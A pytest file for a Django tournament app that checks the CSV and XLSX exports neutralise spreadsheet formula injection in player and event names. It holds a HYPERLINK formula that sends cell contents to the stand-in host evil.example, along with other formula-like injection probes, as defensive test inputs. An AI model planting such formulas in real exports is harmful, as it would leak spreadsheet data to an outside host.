"""Issue 14, defect 6: a player named like a formula is text in the CSV and the XLSX."""

from __future__ import annotations

import csv
import io

import pytest
from django.core.cache import cache
from django.urls import reverse
from openpyxl import load_workbook

from tests.selectors.test_standings import nine_player_drive
from tournaments.models import Event, Player
from tournaments.selectors.exports import FORMULA_STARTS, safe_cell

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
NAMES = [EVIL, "+1+2", "-2+3", "@SUM(A1)", "\tTab", "\rCR"]


@pytest.fixture
def event(db):
    cache.clear()
    event = nine_player_drive()
    for player, name in zip(Player.objects.filter(club=event.club).order_by("pk"), NAMES, strict=False):
        player.name = name
        player.save(update_fields=["name"])
    Event.objects.filter(pk=event.pk).update(status="published", name="=1+1 night")
    event.refresh_from_db()
    return event


def export(client, event, fmt):
    response = client.get(reverse("public:export", args=[event.slug, fmt]))
    assert response.status_code == 200
    return response.content


def test_no_csv_cell_starts_like_a_formula(client, event):
    rows = list(csv.reader(io.StringIO(export(client, event, "csv").decode(), newline="")))
    cells = [cell for row in rows for cell in row]
    assert [c for c in cells if c.startswith(FORMULA_STARTS) and not _number(c)] == []
    assert "'" + EVIL in cells and "'=1+1 night" in cells
    assert "24" in cells  # numbers untouched


def test_xlsx_stores_formula_like_names_as_text(client, event):
    book = load_workbook(io.BytesIO(export(client, event, "xlsx")))
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    assert EVIL in [c.value for c in cells]  # kept as typed, but as text
    assert 24 in [c.value for c in cells]  # numbers stay numbers


def test_safe_cell_leaves_numbers_alone():
    assert (safe_cell(-3), safe_cell("-3"), safe_cell(2.5), safe_cell("P1")) == (-3, "-3", 2.5, "P1")
    assert safe_cell("-x") == "'-x"


def _number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True
